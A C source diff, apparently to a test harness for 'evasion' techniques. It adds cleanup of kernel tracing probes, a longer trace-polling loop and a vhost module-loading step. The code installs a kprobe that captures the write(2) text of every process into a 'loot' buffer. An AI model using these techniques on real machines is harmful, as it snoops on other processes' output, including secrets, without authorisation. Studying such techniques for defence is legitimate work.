@@ -20,6 +20,7 @@
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/eventfd.h>
 #include <sys/ioctl.h>
@@ -277,7 +278,7 @@ static int loot_trace(struct arena *a)
 	static char all[1 << 16];
 	struct pollfd p = { .fd = TRY(open(TRACING "trace_pipe", O_RDONLY | O_NONBLOCK)),
 			    .events = POLLIN };
-	int rounds = 40;
+	int rounds = 200;	/* an emulated machine takes its time */
 
 	while (rounds-- && !a->loot_size) {
 		ssize_t n;
@@ -291,6 +292,18 @@ static int loot_trace(struct arena *a)
 	return 0;
 }
 
+/* What is left of one that was killed, in the trace as well. */
+static void end_probes(const char *file)
+{
+	int trace = open(TRACING "trace", O_WRONLY | O_TRUNC);
+
+	tell(TRACING "events/evasion/writes/enable", "0");
+	tell(TRACING "events/syscalls/sys_enter_write/enable", "0");
+	tell(file, "-:evasion/writes\n");
+	if (trace >= 0)
+		close(trace);
+}
+
 /* The second argument of write(2), as text, of whoever calls it. */
 #define PROBE "p:evasion/writes __x64_sys_write text=+0(+104(%di)):ustring\n"
 
@@ -298,12 +311,12 @@ static int probe(struct arena *a, const char *file)
 {
 	int r;
 
+	end_probes(file);
 	PASS_ON(tell(file, PROBE));
 	r = tell(TRACING "events/evasion/writes/enable", "1");
 	if (!r)
 		r = loot_trace(a);
-	tell(TRACING "events/evasion/writes/enable", "0");
-	tell(file, "-:evasion/writes\n");
+	end_probes(file);
 	return r;
 }
 
@@ -316,9 +329,10 @@ static int pull_traced_calls(struct arena *a)
 	int r;
 
 	TRY(access(TRACING "syscall_user_buf_size", R_OK));
+	end_probes(TRACING "kprobe_events");
 	PASS_ON(tell(TRACING "events/syscalls/sys_enter_write/enable", "1"));
 	r = loot_trace(a);
-	tell(TRACING "events/syscalls/sys_enter_write/enable", "0");
+	end_probes(TRACING "kprobe_events");
 	return r;
 }
 
@@ -381,6 +395,12 @@ static int set_up_worker(int vhost, const char *pages, const struct vring *v, in
 	return 0;
 }
 
+static int load_vhost(struct arena *a)
+{
+	(void)a;
+	return system("modprobe -a tun vhost_net 2>/dev/null") ? -ENODEV : 0;
+}
+
 static int push_vhost(struct arena *a, const char *data, size_t size)
 {
 	char *pages = mmap(NULL, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
@@ -415,7 +435,8 @@ static const struct technique list[] = {
 	PASS(stack_sampled_by_cpu, NULL, push_work, pull_all_samples),
 	ALTERS(probed, push_work, pull_probe), ALTERS(probed_otherwise, push_work, pull_dynamic_probe),
 	ALTERS(calls_traced, push_work, pull_traced_calls),
-	{ .name = "vhost_worker", .goal = GOAL_SEND, .flags = ALTERS_HOST, .push = push_vhost },
+	{ .name = "vhost_worker", .goal = GOAL_SEND, .flags = ALTERS_HOST,
+	  .setup = load_vhost, .push = push_vhost },
 };
 
 FAMILY(handed, list);
